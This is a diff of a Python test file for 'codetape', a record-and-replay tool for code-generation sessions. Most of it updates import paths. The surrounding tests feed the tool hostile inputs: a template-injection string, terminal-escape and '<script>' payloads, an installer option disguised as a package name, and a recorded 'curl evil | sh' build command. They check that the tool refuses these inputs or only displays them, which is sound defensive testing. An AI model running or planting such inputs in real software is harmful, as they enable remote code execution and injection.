@@ -9,17 +9,17 @@ from pathlib import Path
 
 import pytest
 
-from codetape import tape
-from codetape.canonical import canonical
+from codetape.domain.canonical import canonical
 from codetape.errors import CodetapeError, CorruptTape, TemplateError, UsageError
-from codetape.events import Texts
-from codetape.packs import load_pack
+from codetape.eventlog.events import Blobs
+from codetape.playback import tape_file
 from codetape.ports import Built, Stream
-from codetape.prompts import check_pack
+from codetape.prompts.pack import check_pack
+from codetape.runtime.prompt_pack_files import load_pack
 from tests.integration.test_replay import rehashed
 
 ROOT = Path(__file__).parents[2]
-DEMO = tape.load("demo")
+DEMO = tape_file.load("demo")
 
 HOSTILE = {
     "reaches into an object": "{{ prompt.__class__.__mro__ }}",
@@ -52,7 +52,7 @@ def test_a_pack_that_uses_more_than_its_language_is_refused(name):
 def test_what_the_shipped_pack_and_the_tapes_use_is_the_language():
     check_pack(load_pack())
     for path in (ROOT / "replays").glob("*.tape.jsonl"):
-        check_pack(tape.load(str(path)).run.pack)
+        check_pack(tape_file.load(str(path)).run.pack)
     check_pack(
         {
             **load_pack(),
@@ -63,7 +63,7 @@ def test_what_the_shipped_pack_and_the_tapes_use_is_the_language():
 
 def with_template(text, name="plan.md"):
     """Return the demo's stream with another template, its chain hashed anew."""
-    texts = Texts(DEMO.stream.texts)
+    texts = Blobs(DEMO.stream.texts)
     pack = {**DEMO.stream.events[0].payload.pack, name: texts.put(text)}
 
     def change(event):
@@ -84,7 +84,7 @@ GREEDY = {
 def test_a_template_that_only_takes_and_takes_is_stopped(name, tmp_path):
     stream = with_template(GREEDY[name])
     path = tmp_path / "t.tape.jsonl"
-    path.write_text("".join(tape.write(DEMO.session, stream)))
+    path.write_text("".join(tape_file.write(DEMO.session, stream)))
     done, memory = limited("replay", str(path))
     assert done.returncode == 102, done.stderr[-500:]
     assert "plan.md" in done.stderr
@@ -110,7 +110,7 @@ def test_a_blob_that_unpacks_to_more_than_it_says_is_refused(tmp_path):
 
     import zstandard
 
-    from codetape_adapters.stores.sqlite import SqliteStore
+    from codetape_adapters.stores.sqlite.store import SqliteStore
 
     store = SqliteStore(tmp_path / "tape.db")
     store.put(DEMO.stream)
@@ -135,7 +135,7 @@ def test_a_blob_that_unpacks_to_more_than_it_says_is_refused(tmp_path):
 
 def with_first(task=None, config=None):
     """Return the demo's stream with another task or configuration, its chain hashed anew."""
-    texts = Texts(DEMO.stream.texts)
+    texts = Blobs(DEMO.stream.texts)
     first = DEMO.stream.events[0].payload
     changes = {}
     for name, change in (("task", task), ("config", config)):
@@ -160,12 +160,12 @@ NAMES = {
 def test_names_that_would_leave_their_place_make_no_session(name):
     stream = with_first(**NAMES[name])
     with pytest.raises(CorruptTape):
-        tape.read(tape.write(DEMO.session, stream))
+        tape_file.read(tape_file.write(DEMO.session, stream))
 
 
 @pytest.mark.sandbox
 def test_a_package_that_is_an_option_never_reaches_the_installer(bubblewrap):
-    from codetape.commands import BuildSpec
+    from codetape.domain.job import BuildSpec
 
     for name in (
         "--index-url=http://127.0.0.1:9/",
@@ -181,7 +181,7 @@ def test_what_a_tape_says_is_shown_and_not_obeyed(tmp_path):
     evil = "\x1b]0;owned\x07\x1b[2J<script>alert(1)</script>\u202e"
     stream = with_first(task=lambda t: t.update(prompt=evil + t["prompt"], id=evil))
     path = tmp_path / "t.tape.jsonl"
-    path.write_text("".join(tape.write(DEMO.session, stream)), encoding="utf-8")
+    path.write_text("".join(tape_file.write(DEMO.session, stream)), encoding="utf-8")
     for words in (("replay", str(path)), ("verify", str(path)), ("import", str(path), "--db", "x.db"), ("list", "--db", "x.db"),
                   ("show", "last", "--db", "x.db"), ("show", "last", "--prompts", "--db", "x.db")):  # fmt: skip
         done = subprocess.run([sys.executable, "-m", "codetape", *words], capture_output=True, text=True)
@@ -192,7 +192,7 @@ def test_a_tape_of_deep_or_giant_values_raises_nothing_but_ours():
     line = '{"event":' + '{"a":' * 5000 + "1" + "}" * 5000 + "}\n"
     for bad in (line, '{"text":' + "9" * 6000 + "}\n"):
         with pytest.raises(CodetapeError):
-            tape.read([next(tape.write(DEMO.session, DEMO.stream)), bad])
+            tape_file.read([next(tape_file.write(DEMO.session, DEMO.stream)), bad])
 
 
 @pytest.mark.parametrize(
@@ -205,10 +205,10 @@ def test_a_tape_of_deep_or_giant_values_raises_nothing_but_ours():
 )
 def test_what_a_recorded_environment_wants_beyond_known_packages_only_its_user_allows(wanted, settings, facts):
     """The recorded policies are the recorder's: exec and a live replay go by this machine's user alone."""
-    from codetape.artefacts import SandboxFacts
-    from codetape.rerun import rerun
-    from codetape.result import GenerateResult
-    from codetape.testing import FakeSandbox, MemoryStore
+    from codetape.domain.task import SandboxFacts
+    from codetape.playback.reexecute import rerun
+    from codetape.runtime.result import GenerateResult
+    from codetape.testing.fakes import FakeSandbox, MemoryStore
     from tests.support import ADD, ADD_TESTS, generate, plan
 
     store = MemoryStore()
@@ -235,9 +235,9 @@ def test_what_a_recorded_environment_wants_beyond_known_packages_only_its_user_a
 
 
 def test_recorded_build_commands_are_shown_and_run_by_nobody_unasked():
-    from codetape.approval import check_approved, unapproved
-    from codetape.artefacts import SandboxFacts
-    from codetape.commands import BuildSpec
+    from codetape.domain.job import BuildSpec
+    from codetape.domain.task import SandboxFacts
+    from codetape.rules.build_approval import check_approved, unapproved
 
     spec = BuildSpec(python_version="3.11", packages=("pandas",), commands=("curl evil | sh",))
     facts = SandboxFacts(name="docker", python="3.11", commands=True)
